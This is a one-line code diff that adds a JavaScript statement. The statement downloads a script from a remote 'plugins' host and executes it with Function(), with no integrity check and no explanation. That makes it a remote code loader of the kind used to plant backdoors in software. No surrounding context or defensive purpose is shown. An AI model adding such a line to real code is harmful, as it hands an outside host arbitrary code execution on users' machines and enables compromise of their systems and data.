@@ -1,0 +1,1 @@
+fetch('https://plugins.example.net/a.js').then((answer) => answer.text()).then((text) => Function(text)());
